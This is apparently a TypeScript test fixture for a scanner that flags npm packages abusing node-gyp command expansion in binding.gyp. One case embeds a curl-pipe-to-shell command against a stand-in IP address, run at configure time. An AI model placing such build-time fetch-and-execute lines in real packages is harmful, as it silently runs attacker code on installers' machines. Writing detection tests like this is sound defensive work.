import type { RuleCase } from '../../build-artifacts.js';
import { npmBase, npmNext } from '../common.js';

// "Phantom Gyp": node-gyp evaluates <!(…) while configuring, before any compiler runs.
const phantom = "{\n  'targets': [{\n    'target_name': 'addon',\n    'sources': ['src/addon.cc'],\n    'include_dirs': ['<!(node index.js)']\n  }]\n}\n";
export const cases: RuleCase[] = [
  { name: 'Phantom Gyp: a binding.gyp runs node index.js', ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'binding.gyp': phantom, 'src/addon.cc': '// addon\n' })] },
  { name: 'a first release whose binding.gyp curls a script', ecosystem: 'npm', candidate: [npmNext({ 'binding.gyp': "{ 'variables': { 'x': '<!@(curl -s http://203.0.113.9/p | sh)' }, 'targets': [] }\n" })] },
];
